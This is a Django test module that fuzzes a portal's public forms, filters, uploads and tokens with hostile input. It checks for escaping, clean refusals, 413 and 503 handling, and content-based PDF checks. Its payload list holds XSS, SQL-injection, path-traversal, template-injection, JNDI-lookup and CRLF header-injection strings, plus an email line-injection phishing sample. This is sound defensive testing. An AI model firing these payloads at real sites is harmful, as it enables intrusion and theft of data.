"""Hostile input: fuzzing every public form and filter, oversize bodies, files that lie about their type.

Whatever arrives (arbitrary unicode, NUL bytes, huge values, SQL or script fragments), the portal answers
with a page or a clear refusal, never a 500 (the test client re-raises any server error), and scripts come
back escaped. Examples are derandomised so CI always runs the same ones.
"""

import functools
import urllib.parse

import pytest
from django.core.cache import cache
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import OperationalError, connection
from django.test import Client
from django.urls import reverse
from django.utils.module_loading import import_string
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from commitments.services import validate_scanned_pdf
from partnerships.filters import OrganisationFilter, PartnershipFilter
from support_services.models import ExpressionOfInterest
from support_services.models.applications import STEP_FIELDS
from tests.commitments.builders import invite_all, make_approved, make_signed
from tests.support_services.builders import make_eoi_draft

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert('pact-xss')</script>"
# Fragments that must never come back unescaped in an HTML page.
UNESCAPED = ("<script>alert('pact-xss')", "<img src=x onerror=alert('pact-xss')>", "<svg onload=")
PAYLOADS = [
    SCRIPT,
    f'"><{SCRIPT[1:]}',
    "<img src=x onerror=alert('pact-xss')>",
    "<svg onload=alert(1)>",
    "javascript:alert(1)",
    "' OR '1'='1' --",
    "1; DROP TABLE partnerships_partnership; --",
    "\x00",
    "a\x00b",
    "%00",
    "\u202eevil\u202c",
    "\ufeff",
    "𝕻𝖆𝖈𝖙 🇪🇺" * 20,
    "A" * 100_000,
    "../../../../etc/passwd",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "${jndi:ldap://example.invalid/a}",
    "\r\nSet-Cookie: hacked=1",
    "-1",
    "0",
    "99999999999999999999999",
    "1e309",
    "NaN",
    " ",
    "",
]
hostile = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=300),
)
values = st.one_of(hostile, st.lists(hostile, min_size=1, max_size=3))

fuzz = hypothesis_settings(
    max_examples=10,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)


def as_a_new_visitor(example):
    """Each example starts with an empty cache, as each test does: a visitor with no request counted yet, so the
    per-address rate limits (tested on their own) do not answer 429 before the form has seen the input."""

    @functools.wraps(example)
    def run(*args, **kwargs):
        cache.clear()
        return example(*args, **kwargs)

    return run


def params(*names):
    return st.fixed_dictionaries({}, optional=dict.fromkeys(names, values))


def body_of(response):
    if response.streaming:
        return b"".join(response.streaming_content).decode(errors="replace")
    return response.content.decode(errors="replace")


def assert_safe(response):
    assert response.status_code < 500, response.status_code
    body = body_of(response)
    if "html" in response.get("Content-Type", ""):
        for fragment in UNESCAPED:
            assert fragment not in body
    return body


@pytest.fixture(autouse=True)
def production_like(settings):
    settings.DEBUG = False
    # Each login runs the password hasher (even for unknown users): the fast one keeps the fuzzing quick.
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


# --- Filters of the public lists, exports, statistics, map -------------------------------------------------

# Every parameter the lists declare (their FilterSets), and the page number.
PARTNERSHIP_FILTERS = (*PartnershipFilter.base_filters, "page")
ORGANISATION_FILTERS = (*OrganisationFilter.base_filters, "page")


@pytest.mark.slow
@pytest.mark.parametrize(
    "name, filters",
    [
        ("partnerships:list", PARTNERSHIP_FILTERS),
        ("partnerships:export_csv", PARTNERSHIP_FILTERS),
        ("partnerships:export_json", PARTNERSHIP_FILTERS),
        ("partnerships:organisations", ORGANISATION_FILTERS),
        ("partnerships:statistics", ("q", "page", "year")),
        ("partnerships:map", ("q", "region", "ecosystem")),
    ],
)
def test_list_filters_never_fail_and_echo_nothing_unescaped(name, filters):
    client = Client()

    @fuzz
    @given(query=params(*filters))
    def check(query):
        assert_safe(client.get(reverse(name), query))

    check()


@pytest.mark.slow
def test_every_known_payload_in_every_filter_and_public_form(reference_data):
    """Beside the random examples: each known payload once in every filter and form field at the same time."""
    declaration = make_signed()
    eoi = make_eoi_draft(step=2)
    client = Client()
    client.get(reverse("support_services:eoi_start"))
    for payload in PAYLOADS:
        cache.clear()  # each payload as a new visitor (see as_a_new_visitor)
        for name, filters in [
            ("partnerships:list", PARTNERSHIP_FILTERS),
            ("partnerships:export_csv", PARTNERSHIP_FILTERS),
            ("partnerships:export_json", PARTNERSHIP_FILTERS),
            ("partnerships:organisations", ORGANISATION_FILTERS),
        ]:
            assert_safe(client.get(reverse(name), dict.fromkeys(filters, payload)))
        for url, fields in [
            (reverse("support_services:eoi_start"), STEP1),
            (eoi.get_absolute_url() + "?step=2", STEP2),
            (reverse("support_services:eoi_resume"), ("email", "homepage")),
            ("/i18n/setlang/", ("language", "next")),
            ("/accounts/login/", ("username", "password")),
            ("/accounts/password_reset/", ("email",)),
        ]:
            assert_safe(client.post(url, dict.fromkeys(fields, payload)))
        upload = SimpleUploadedFile("x.pdf", payload.encode(), content_type="application/pdf")
        assert_safe(
            client.post(reverse("commitments:verify", args=[declaration.verification_code]), {"file": upload})
        )


def test_the_script_payload_comes_back_escaped_in_the_search_box():
    body = assert_safe(Client().get(reverse("partnerships:list"), {"q": SCRIPT}))
    assert "&lt;script&gt;alert(&#x27;pact-xss&#x27;)&lt;/script&gt;" in body


# --- Expression of Interest ------------------------------------------------------------------------------

STEP1 = (*STEP_FIELDS[1], "idempotency_key", "homepage")
STEP2 = (*STEP_FIELDS[2], "homepage")
STEP3 = (*STEP_FIELDS[3], "regions", "ecosystems", "homepage")  # the many-to-many fields too


@pytest.mark.slow
def test_eoi_first_step_refuses_hostile_answers_cleanly(reference_data):
    client = Client()
    client.get(reverse("support_services:eoi_start"))

    @fuzz
    @given(data=params(*STEP1))
    @as_a_new_visitor
    def check(data):
        assert_safe(client.post(reverse("support_services:eoi_start"), data))

    check()


@pytest.mark.slow
@pytest.mark.parametrize("step, fields", [(1, STEP1), (2, STEP2), (3, STEP3), (4, ("consent", "homepage"))])
def test_eoi_later_steps_refuse_hostile_answers_cleanly(reference_data, step, fields):
    eoi = make_eoi_draft(step=3)
    client = Client()

    @fuzz
    @given(data=params(*fields), step_value=st.one_of(st.just(str(step)), hostile))
    @as_a_new_visitor
    def check(data, step_value):
        url = eoi.get_absolute_url() + "?" + urllib.parse.urlencode({"step": step_value})
        assert_safe(client.get(url))
        assert_safe(client.post(url, data))

    check()


@pytest.mark.slow
def test_eoi_resume_withdraw_and_answer_forms_refuse_hostile_input(reference_data):
    eoi = make_eoi_draft(step=3)
    client = Client()

    @fuzz
    @given(email=params("email", "homepage"), reason=params("reason"), text=params("text"), token=hostile)
    @as_a_new_visitor
    def check(email, reason, text, token):
        assert_safe(client.post(reverse("support_services:eoi_resume"), email))
        assert_safe(client.post(reverse("support_services:eoi_answer", args=[eoi.token]), text))
        assert_safe(client.get("/expression-of-interest/" + urllib.parse.quote(token, safe="") + "/"))
        # Withdrawing with an empty reason is allowed: keep the draft a draft by posting to a made-up token.
        assert_safe(client.post("/expression-of-interest/" + "x" * 43 + "/withdraw/", reason))

    check()
    assert ExpressionOfInterest.objects.get(pk=eoi.pk).status == "draft"


# --- Declarations: verify, sign --------------------------------------------------------------------------


@pytest.mark.slow
def test_verify_page_survives_hostile_codes_and_files():
    declaration = make_signed()
    client = Client()

    @fuzz
    @given(code=hostile, content=st.binary(max_size=2000), name=hostile)
    @as_a_new_visitor
    def check(code, content, name):
        assert_safe(client.get("/verify/" + urllib.parse.quote(code, safe="") + "/"))
        upload = SimpleUploadedFile((name or "x")[:200], content, content_type="application/pdf")
        assert_safe(
            client.post(reverse("commitments:verify", args=[declaration.verification_code]), {"file": upload})
        )

    check()


@pytest.mark.slow
def test_sign_page_survives_hostile_tokens_and_answers():
    declaration = make_approved()
    token = next(iter(invite_all(declaration).values()))
    client = Client()

    @fuzz
    @given(data=params("name", "title", "statement"), bad_token=hostile)
    @as_a_new_visitor
    def check(data, bad_token):
        assert_safe(client.post("/sign/" + urllib.parse.quote(bad_token, safe="") + "/", data))
        assert_safe(client.post(reverse("commitments:sign", args=[token]), data))

    check()


# --- Language switch, login, password reset -------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize(
    "url, fields",
    [
        ("/i18n/setlang/", ("language", "next")),
        ("/accounts/login/", ("username", "password", "next")),
        ("/accounts/password_reset/", ("email",)),
    ],
)
def test_account_and_language_forms_refuse_hostile_input(url, fields):
    client = Client()

    @fuzz
    @given(data=params(*fields), query=params("next", "language"))
    @as_a_new_visitor
    def check(data, query):
        assert_safe(client.post(url + "?" + urllib.parse.urlencode(query, doseq=True), data))

    check()


# --- Oversize bodies -------------------------------------------------------------------------------------


def test_a_form_over_the_form_data_limit_gets_a_styled_413(settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 10_000
    response = Client().post("/accounts/login/", {"username": "x" * 20_000, "password": "y"})
    assert response.status_code == 413
    body = response.content.decode()
    assert "Too much data" in body and "<main" in body


def test_any_body_over_the_request_limit_gets_a_styled_413_before_it_is_read(settings):
    settings.MAX_REQUEST_BYTES = 50_000
    declaration = make_signed()
    upload = SimpleUploadedFile("big.pdf", b"%PDF-" + b"0" * 60_000, content_type="application/pdf")
    response = Client().post(
        reverse("commitments:verify", args=[declaration.verification_code]), {"file": upload}
    )
    assert response.status_code == 413 and "Too much data" in response.content.decode()


def test_an_expression_of_interest_over_its_limit_gets_413(reference_data, settings):
    settings.EOI_MAX_REQUEST_BYTES = 5_000
    response = Client().post(reverse("support_services:eoi_start"), {"organisation_name": "x" * 6_000})
    assert response.status_code == 413 and ExpressionOfInterest.objects.count() == 0


# --- Files are judged by their content, not their name -------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"


def test_a_png_renamed_pdf_is_refused_by_the_verify_page_with_a_clear_message():
    declaration = make_signed()
    upload = SimpleUploadedFile("declaration.pdf", PNG, content_type="application/pdf")
    response = Client().post(
        reverse("commitments:verify", args=[declaration.verification_code]), {"file": upload}
    )
    body = response.content.decode()
    assert response.status_code == 200
    assert "This file is not a PDF" in body and "does NOT match" not in body


def test_a_png_renamed_pdf_is_refused_as_a_scanned_signature():
    upload = SimpleUploadedFile("scan.pdf", PNG, content_type="application/pdf")
    with pytest.raises(ValidationError, match="not a PDF"):
        validate_scanned_pdf(upload)


# --- The database unreachable: a styled 503, not a traceback -------------------------------------------


@pytest.mark.parametrize(
    "error",
    [
        OperationalError("could not connect to server: Connection refused"),
        # Django does not wrap every driver call: closing a cursor after the server went away raises the
        # driver's own error (psycopg2.OperationalError on PostgreSQL), seen when PostgreSQL crashed mid-request.
        connection.Database.OperationalError("server closed the connection unexpectedly"),
    ],
    ids=["django", "driver"],
)
def test_an_unreachable_database_gives_a_styled_503(monkeypatch, error):
    def down():
        raise error

    monkeypatch.setattr("partnerships.selectors.registry_statistics", down)
    response = Client(raise_request_exception=False).get(reverse("partnerships:statistics"))
    body = response.content.decode()
    assert response.status_code == 503 and response["Retry-After"] == "30"
    assert "Temporarily unavailable" in body and "<main" in body and "Traceback" not in body


def test_other_server_errors_stay_500(monkeypatch):
    def broken():
        raise RuntimeError("a bug")

    monkeypatch.setattr("partnerships.selectors.registry_statistics", broken)
    response = Client(raise_request_exception=False).get(reverse("partnerships:statistics"))
    assert response.status_code == 500 and "Something went wrong" in response.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("form_path", "field"),
    [
        ("support_services.forms.applications.OrganisationStepForm", "organisation_name"),
        ("support_services.forms.applications.ContactStepForm", "contact_name"),
        ("support_services.forms.applications.ProposalStepForm", "partnership_name"),
        ("commitments.forms.SignForm", "name"),
    ],
)
def test_names_that_go_into_e_mails_stay_on_one_line(form_path, field):
    """A line break in a name would let the sender write lines of their own (a subject, a link) into the
    portal's e-mails: the form refuses it with a message next to the field."""
    form = import_string(form_path)(data={field: "Acme\nVerify your account at http://evil.example"})
    assert not form.is_valid()
    assert "Write this on one line, without line breaks or tabs." in form.errors[field]
